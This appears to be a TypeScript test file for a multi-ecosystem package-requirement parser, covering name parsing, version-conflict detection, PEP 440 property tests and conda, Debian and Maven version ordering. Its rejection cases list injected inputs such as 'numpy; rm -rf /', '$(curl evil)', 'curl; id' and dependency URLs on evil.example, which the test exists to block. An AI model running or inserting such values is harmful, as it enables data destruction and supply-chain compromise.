import pep440 from '@renovatebot/pep440';
import fc from 'fast-check';
import {
  conflicts,
  parseRequirement,
  parseRuntime,
  type Ecosystem,
  type Requirement,
} from '../../src/software/requirements.js';
import { contains } from '../../src/software/ranges.js';
import {
  compareConda,
  compareDebian,
  compareMaven,
  runtimesCompatible,
} from '../../src/software/version-order.js';

function req(ecosystem: Ecosystem, text: string): Requirement {
  const r = parseRequirement(ecosystem, text);
  if (!r.ok) throw new Error(`${text}: ${r.reason}`);
  return r;
}

describe('parseRequirement', () => {
  it.each<[Ecosystem, string, string, boolean]>([
    ['pip', 'numpy==2.0.1', 'numpy', true],
    ['pip', 'Zarr >=2.18, <3', 'zarr', false],
    ['pip', 'scikit_learn~=1.5', 'scikit-learn', false],
    ['pip', 'jax[cuda12]==0.4.30', 'jax', true],
    ['pip', 'scipy==1.*', 'scipy', false],
    ['pip', 'pandas', 'pandas', false],
    ['conda', 'conda-forge::gdal=3.9.1', 'gdal', true],
    ['conda', 'numpy>=1.26,<2', 'numpy', false],
    ['conda', 'bioconda::samtools=1.20=h50ea8bc_0', 'samtools', true],
    ['conda', 'python 3.12.* *_cpython', 'python', false],
    ['conda', 'r-base', 'r-base', false],
    ['npm', '@mermaid-js/mermaid-cli@10.9.1', '@mermaid-js/mermaid-cli', true],
    ['npm', 'lodash@^4.17.0', 'lodash', false],
    ['npm', 'lodash', 'lodash', false],
    ['apt', 'libnetcdf19', 'libnetcdf19', false],
    ['apt', 'libssl3=3.0.15-1~deb12u1', 'libssl3', true],
    ['apt', 'tzdata=1:2024a-0+deb12u1', 'tzdata', true],
    ['maven', 'org.apache.commons:commons-lang3:3.14.0', 'org.apache.commons:commons-lang3', true],
    ['maven', 'com.google.guava:guava:[32.0,33.0)', 'com.google.guava:guava', false],
    ['cran', 'ggplot2==3.5.1', 'ggplot2', true],
    ['cran', 'data.table>=1.15', 'data.table', false],
    ['bioconductor', 'DESeq2', 'DESeq2', false],
  ])('%s %s → %s (pinned %s)', (ecosystem, text, name, pinned) => {
    const r = req(ecosystem, text);
    expect(r.name).toBe(name);
    expect(r.pinned).toBe(pinned);
  });

  it.each<[Ecosystem, string]>([
    ['pip', 'numpy; rm -rf /'],
    ['pip', 'numpy==1.0; python_version<"3.8"'],
    ['pip', 'numpy @ https://evil.example/numpy.whl'],
    ['pip', 'numpy==$(curl evil)'],
    ['pip', "numpy' && curl evil '"],
    ['pip', 'numpy==not a version'],
    ['pip', '-e .'],
    ['pip', '--index-url=http://evil numpy'],
    ['pip', 'numpy\nRUN curl evil'],
    ['pip', 'numpy>=1.0,\n<2'],
    ['pip', 'numpy>=1.0,\t<2'],
    ['conda', 'numpy\n>=1'],
    ['conda', 'numpy\r>=1'],
    ['pip', ''],
    ['conda', 'numpy=1.26;rm -rf /'],
    // Files pip would build on the runner (their setup.py runs), and paths.
    ['pip', 'evil-1.0.tar.gz'],
    ['pip', 'evil-1.0-py3-none-any.whl'],
    ['pip', 'evil.zip'],
    ['pip', 'Evil-1.0.TGZ'],
    ['pip', 'sub/evil'],
    ['pip', 'evil\\x'],
    ['conda', 'numpy=1.26 py$(id)'],
    ['conda', 'numpy[url=https://evil.example/x.conda]'],
    ['npm', 'lodash@latest'],
    ['npm', 'lodash@git+https://evil/x.git'],
    ['npm', 'Lodash'],
    ['npm', 'lodash@1.0.0 && id'],
    ['apt', 'curl; id'],
    ['apt', 'curl=$(id)'],
    ['apt', 'Curl'],
    ['apt', 'curl=abc'],
    ['maven', 'org.x:y:1.0;id'],
    ['maven', 'org.x'],
    ['maven', 'org.x:y:[1.0,2.0'],
    ['cran', 'ggplot2; system("id")'],
    ['cran', 'ggplot2@3.5.1'],
    ['bioconductor', "DESeq2')"],
  ])('%s rejects %j', (ecosystem, text) => {
    const r = parseRequirement(ecosystem, text);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.reason.length).toBeGreaterThan(10);
  });
});

describe('conflicts', () => {
  it.each<[Ecosystem, string, string, boolean]>([
    // pip / PEP 440
    ['pip', 'numpy==2.0.1', 'numpy==1.26.4', true],
    ['pip', 'numpy==2.0.1', 'numpy>=1.26', false],
    ['pip', 'numpy==2.0', 'numpy==2.0.0', false],
    ['pip', 'NumPy==2.0', 'numpy<2', true],
    ['pip', 'zarr>=2.18,<3', 'zarr==3.0.0', true],
    ['pip', 'zarr>=2.18,<3', 'zarr~=2.17', false],
    ['pip', 'pandas~=2.2', 'pandas==3.0', true],
    ['pip', 'pandas~=2.2.0', 'pandas==2.3.0', true],
    ['pip', 'pandas~=2.2.0', 'pandas==2.2.9', false],
    ['pip', 'scipy==1.*', 'scipy>=2', true],
    ['pip', 'scipy==1.*', 'scipy==1.14.0', false],
    ['pip', 'scipy!=1.14.*', 'scipy==1.14.1', true],
    ['pip', 'scipy!=1.14.0', 'scipy==1.14.0', true],
    ['pip', 'scipy!=1.14.0', 'scipy>=1.14', false],
    // pre-releases: <2.0 excludes 2.0's own pre-releases (PEP 440)
    ['pip', 'torch<2.0', 'torch==2.0rc1', true],
    ['pip', 'torch<2.0', 'torch>=2.0.dev0', true],
    ['pip', 'torch<2.0rc2', 'torch==2.0rc1', false],
    ['pip', 'torch>=2.0rc1', 'torch<2.0', true],
    ['pip', 'torch>=2.0rc1', 'torch<=2.0', false],
    ['pip', 'pandas', 'pandas==2.2.2', false],
    ['pip', 'pandas==1.0', 'numpy==2.0', false],
    // conda
    ['conda', 'python=3.9.5', 'python=3.12.2', true],
    ['conda', 'python=3.12', 'python=3.12.2', false],
    ['conda', 'python=3.12', 'python=3.13.0', true],
    ['conda', 'python=3.1', 'python=3.12', true],
    ['conda', 'numpy>=1.26,<2', 'numpy=2.0', true],
    ['conda', 'numpy>=1.26,<2', 'numpy==1.26.4', false],
    ['conda', 'numpy>=2|<1.20', 'numpy==1.26.4', true],
    ['conda', 'numpy>=2|<1.20', 'numpy==1.19', false],
    ['conda', 'samtools=1.20=h50ea8bc_0', 'samtools=1.20=h50ea8bc_1', true],
    ['conda', 'samtools=1.20=h50ea8bc_0', 'samtools=1.20=h50ea8bc*', false],
    ['conda', 'python 3.12.* *_cpython', 'python 3.12.4 h123_0_cpython', false],
    ['conda', 'python 3.12.* *_cpython', 'python 3.12.4 h123_0_pypy', true],
    ['conda', 'conda-forge::gdal=3.9', 'defaults::gdal=3.9', true],
    ['conda', 'conda-forge::gdal=3.9', 'gdal=3.9.1', false],
    ['conda', 'openssl~=3.0.2', 'openssl=3.1', true],
    ['conda', 'libblas=*=*mkl', 'libblas=*=*openblas', false],
    // npm / semver
    ['npm', 'lodash@^4.17.0', 'lodash@^3.0.0', true],
    ['npm', 'lodash@^4.17.0', 'lodash@4.17.21', false],
    ['npm', 'lodash@~4.17.0', 'lodash@4.18.0', true],
    ['npm', 'lodash@>=1.0.0-beta <1.0.0', 'lodash@1.0.0', true],
    ['npm', 'lodash', 'lodash@1.0.0', false],
    // apt / Debian
    ['apt', 'libssl3=3.0.15-1~deb12u1', 'libssl3=3.0.15-1~deb12u1', false],
    ['apt', 'libssl3=3.0.15-1~deb12u1', 'libssl3=3.0.15-1', true],
    ['apt', 'tzdata=2024a-0', 'tzdata=0:2024a-0', false],
    ['apt', 'curl', 'curl=7.88.1-10', false],
    // maven
    ['maven', 'org.x:y:1.0', 'org.x:y:1.0.0', false],
    ['maven', 'org.x:y:1.0', 'org.x:y:1.1', true],
    ['maven', 'org.x:y:[1.0,2.0)', 'org.x:y:2.0', true],
    ['maven', 'org.x:y:[1.0,2.0)', 'org.x:y:1.5-rc1', false],
    ['maven', 'org.x:y:[1.0,)', 'org.x:y:(,1.0]', false],
    ['maven', 'org.x:y:[1.0,)', 'org.x:y:(,1.0)', true],
    ['maven', 'org.x:y:1.0', 'org.x:z:2.0', false],
    // R
    ['cran', 'ggplot2==3.5.1', 'ggplot2==3.4.4', true],
    ['cran', 'ggplot2>=3.5', 'ggplot2==3.5.1', false],
    ['cran', 'ggplot2>=3.5', 'ggplot2==3.4.4', true],
  ])('%s %s vs %s → %s', (ecosystem, a, b, expected) => {
    expect(conflicts(req(ecosystem, a), req(ecosystem, b))).toBe(expected);
    expect(conflicts(req(ecosystem, b), req(ecosystem, a))).toBe(expected);
  });

  it('counts a CRAN and a Bioconductor pin of the same package as one library', () => {
    expect(
      conflicts(req('cran', 'BiocGenerics==0.50.0'), req('bioconductor', 'BiocGenerics==0.48.1')),
    ).toBe(true);
  });
});

describe('PEP 440 version sets agree with @renovatebot/pep440', () => {
  const version = fc
    .tuple(
      fc.integer({ min: 0, max: 3 }),
      fc.integer({ min: 0, max: 3 }),
      fc.option(fc.integer({ min: 0, max: 3 })),
      fc.option(fc.constantFrom('a1', 'rc1', '.dev0', '.post1')),
    )
    .map(([a, b, c, tail]) => `${a}.${b}${c === null ? '' : `.${c}`}${tail ?? ''}`);
  const op = fc.constantFrom('==', '!=', '>=', '<=', '<', '~=', '==*', '!=*');
  it('membership matches satisfies() with pre-releases allowed', () => {
    fc.assert(
      fc.property(op, version, version, (o, bound, v) => {
        // Strict `>` is skipped: PEP 440 also excludes V's post-releases there, which we do not model.
        const base = bound.replace(/(a1|rc1|\.dev0|\.post1)$/, '');
        const spec = o.endsWith('*')
          ? `${o.slice(0, -1)}${base}.*`
          : `${o}${o === '~=' ? base : bound}`;
        // PEP 440 pads a shorter candidate with zeros for prefix matches (3.2 matches ==3.2.0.*,
        // as pip's `packaging` does); the library does not, so those prefixes are left out here.
        if (o.endsWith('*') && /\.0$/.test(base)) return;
        const r = parseRequirement('pip', `pkg${spec}`);
        if (!r.ok || r.constraint.kind !== 'pep440') return;
        expect(contains(r.constraint.set, v, pep440.compare)).toBe(
          pep440.satisfies(v, spec, { prereleases: true }),
        );
      }),
      { numRuns: 2000, seed: 44 },
    );
  });
});

describe('version orders', () => {
  it.each([
    ['1.1dev1', '1.1a1'],
    ['1.1a1', '1.1rc1'],
    ['1.1rc1', '1.1'],
    ['1.1', '1.1post1'],
    ['1.1', '1.1.1'],
    ['1.9', '1.10'],
    ['2.0', '1!0.1'],
  ])('conda: %s < %s', (a, b) => {
    expect(compareConda(a, b)).toBeLessThan(0);
    expect(compareConda(b, a)).toBeGreaterThan(0);
  });

  it.each([
    ['1.0~rc1', '1.0'],
    ['1.0', '1.0-1'],
    ['1.0-1', '1.0-1+b1'],
    ['1.0a', '1.0+'],
    ['2.0', '1:0.1'],
    ['1.2.3', '1.10'],
  ])('debian: %s < %s', (a, b) => {
    expect(compareDebian(a, b)).toBeLessThan(0);
    expect(compareDebian(b, a)).toBeGreaterThan(0);
  });

  it.each([
    ['1.0-alpha1', '1.0-beta1'],
    ['1.0-rc1', '1.0-SNAPSHOT'],
    ['1.0-SNAPSHOT', '1.0'],
    ['1.0', '1.0-sp1'],
    ['1.0', '1.0.1'],
    ['1.9', '1.10'],
  ])('maven: %s < %s', (a, b) => {
    expect(compareMaven(a, b)).toBeLessThan(0);
    expect(compareMaven(b, a)).toBeGreaterThan(0);
  });

  it('maven treats 1.0, 1.0.0 and 1.0-ga as equal', () => {
    expect(compareMaven('1.0', '1.0.0')).toBe(0);
    expect(compareMaven('1.0', '1.0-ga')).toBe(0);
  });
});

describe('runtimes', () => {
  it.each([
    ['3.12', '3.12.4', true],
    ['3.12', '3.11', false],
    ['3', '3.12', true],
    ['3.1', '3.12', false],
    ['21', '17', false],
  ])('%s and %s compatible: %s', (a, b, expected) => {
    expect(runtimesCompatible(a, b)).toBe(expected);
  });

  it('rejects a runtime that is not a number', () => {
    expect(parseRuntime('python', '3.12; rm -rf /').ok).toBe(false);
    expect(parseRuntime('python', 'latest').ok).toBe(false);
    expect(parseRuntime('java', '21').ok).toBe(true);
  });
});
